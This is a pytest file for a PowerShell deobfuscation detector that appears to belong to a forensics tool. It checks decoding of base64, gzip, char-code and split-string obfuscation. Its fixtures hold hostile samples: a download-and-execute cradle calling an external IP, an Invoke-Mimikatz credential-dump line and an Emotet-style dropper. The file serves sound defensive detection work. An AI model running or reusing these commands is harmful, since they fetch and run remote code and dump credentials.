"""What an encoded PowerShell command hides, revealed for rules and IOCs."""

from __future__ import annotations

import base64
import gzip
import zlib
from pathlib import Path

import orjson
import pytest

from ashiato.detect.decode import decode, might_hide
from ashiato.formats import evtx
from ashiato.formats.testing import parse_file

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"


def utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    "flag", ["-EncodedCommand", "-enc", "-e", "-ec", "/enc", "\u2013encodedcommand", "-EnCoDeD"]
)
def test_every_spelling_of_encoded_command(flag: str) -> None:
    assert decode(f"powershell.exe -NoP -NonI -W Hidden {flag} {utf16(CRADLE)}") == CRADLE


def test_the_encoded_flag_counts_at_the_start_or_after_a_space_only() -> None:
    from ashiato.detect.decode import _ENC_ARG

    payload = utf16(CRADLE)
    for command in (f"-enc {payload}", f"powershell\t/e {payload}",
                    f"powershell\n\u2013ec {payload}", f"p.exe  -e:{payload}"):  # fmt: skip
        found = _ENC_ARG.search(command)
        assert found is not None and found.group(1) == payload, command
    assert decode(f"powershell\t/e {payload}") == CRADLE
    for command in (f"powershell x-enc {payload}", f"powershell a/e {payload}",
                    f"powershell.exe -noprofile\u2014e {payload}"):  # fmt: skip
        assert _ENC_ARG.search(command) is None, command
        assert decode(command) is None, command


def test_frombase64string_with_gzip_and_nesting() -> None:
    inner = f"powershell -enc {utf16(CRADLE)}"
    packed = base64.b64encode(gzip.compress(inner.encode())).decode()
    outer = (
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(''" + packed + "''));"
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    )
    got = decode(outer)
    assert got is not None
    assert inner in got and CRADLE in got  # both layers
    raw = zlib.compressobj(wbits=-15)
    deflated = raw.compress(b"Invoke-Mimikatz -DumpCreds") + raw.flush()
    got = decode(f"[Convert]::FromBase64String('{base64.b64encode(deflated).decode()}')")
    assert got == "Invoke-Mimikatz -DumpCreds"


def test_nothing_hidden_or_not_text() -> None:
    assert decode("powershell.exe -ExecutionPolicy Bypass -File C:\\s\\logon.ps1") is None
    assert decode("C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule") is None
    assert not might_hide("cmd.exe /c dir")
    shellcode = base64.b64encode(bytes(range(256)) * 4).decode()
    assert decode(f"[Convert]::FromBase64String('{shellcode}')") is None


@pytest.mark.corpus
def test_metasploit_psexec_service_payload(shared: Path) -> None:
    # the service command of Metasploit's psexec_psh: a gzip'd loader in FromBase64String
    table, _ = parse_file(
        evtx.FORMAT, shared / "deepbluecli/evtx/metasploit-psexec-powershell-target-system.evtx"
    )
    rows = [r for r in table.to_pylist() if "powershell" in (r["process.command_line"] or "")]
    assert rows

    decoded = orjson.loads(rows[0]["extra"])["decoded"]
    assert "VirtualAlloc" in decoded or "GetProcAddress" in decoded


def _codes(text: str, base: int) -> str:
    fmt = {10: "{}", 16: "'{:x}'", 8: "{:o}", 2: "{:b}"}[base]
    return " , ".join(fmt.format(ord(c)) for c in text)


@pytest.mark.parametrize("base", [10, 16, 8, 2])
def test_character_code_lists_in_any_base(base: int) -> None:
    """Invoke-Obfuscation's ENCODING menu: the command as a list of character codes."""
    conv = "" if base == 10 else f"|%{{[char][convert]::toint16($_,{base})}}"
    block = f"[string]::join('', (({_codes(CRADLE, base)}){conv}))|iex"
    if base == 10:
        block = f"& ($env:comspec[4,15,25]-join'') ([char[]] ({_codes(CRADLE, base)}) -join '')"
    assert might_hide(block)
    assert decode(block) == CRADLE


def test_char_casts_in_capitals() -> None:
    casts = "+".join(f"[CHAR]{ord(c)}" for c in "Invoke-Expression")
    assert decode(f"iex ({casts})") == "Invoke-Expression"


def test_char_casts_joined_by_plus() -> None:
    block = "+".join(f"[char]{ord(c)}" for c in "IEX (New-Object Net.WebClient)")
    assert decode(f"iex ({block})") == "IEX (New-Object Net.WebClient)"


def test_numbers_that_spell_nothing_are_left_alone() -> None:
    assert decode("Get-Process -Id 4,8,15,16,23,42,108,815,1623,4200,8000,9001 -join ','") is None
    assert decode("$ports = 80,443,8080,8443,3389,445,139,135,22,21,25,110 ; $x -join ','") is None


def test_cut_up_strings_and_backticks_are_glued_back() -> None:
    """Emotet's document droppers: every name cut into quoted pieces joined by +, and
    backticks inside identifiers."""
    block = (
        "$a=(('ht'+'tp:'+'//ex'+'ample.test/'+'x'));$w=&('new-'+'obje'+'c'+'t') "
        "neT.WEbcL`IENt;$w.\"dOWnLO`ADfILe\"($a, ($env:temp+('\\'+'x.e'+'xe')))"
    )
    assert might_hide(block)
    got = decode(block) or ""
    assert "http://example.test/x" in got and "new-object" in got
    assert "WEbcLIENt" in got and "dOWnLOADfILe" in got


def test_a_few_joins_are_ordinary_code() -> None:
    assert decode("Write-Host ('Total: ' + $n + ' files')") is None


def test_a_long_ordinary_script_with_some_joins_is_left_alone() -> None:
    line = "Write-Host ('Copied ' + $n + ' files to ' + $dest)`n\n"
    script = line * 9 + "# " + "x" * 20000
    assert decode(script) is None


def test_code_lists_are_found_as_the_whole_text_search_finds_them() -> None:
    """The run prefilter finds the very matches of a search over the whole text: texts
    built from the characters a list is made of, and from the ones that end a run."""
    import random
    import re

    from ashiato.detect import decode as d

    rng = random.Random(14)
    items = ["1", "ff", "'7'", '"a0"', "123456789", "x", "[char]", "\u3000", "-"]
    seps = [",", ", ", " ,", "\t", "", "\n,"]
    found = 0
    for _ in range(3000):
        text = "".join(
            rng.choices(items, weights=(9, 9, 9, 9, 9, 1, 1, 1, 1))[0]
            + rng.choices(seps, weights=(9, 9, 9, 1, 1, 1))[0]
            for _ in range(rng.randrange(5, 60))
        )
        whole = [(m.start(), m.end()) for m in d._CODE_LIST.finditer(text)]
        assert [(m.start(), m.end()) for m in d._code_lists(text)] == whole, text
        found += bool(whole)
    assert 300 < found < 2700  # both kinds of text were tried
    tight = "x" + ",".join("123456789012") + "x"  # the shortest list: 23 characters
    assert [m.group(0) for m in d._code_lists(tight)] == [tight[1:-1]]
    listed = "$x=" + ",".join(str(ord(c)) for c in "Invoke-Expression") + ";"
    assert (
        [m.group(0) for m in d._code_lists(listed)]
        == [m.group(0) for m in re.finditer(d._CODE_LIST, listed)]
        != []
    )
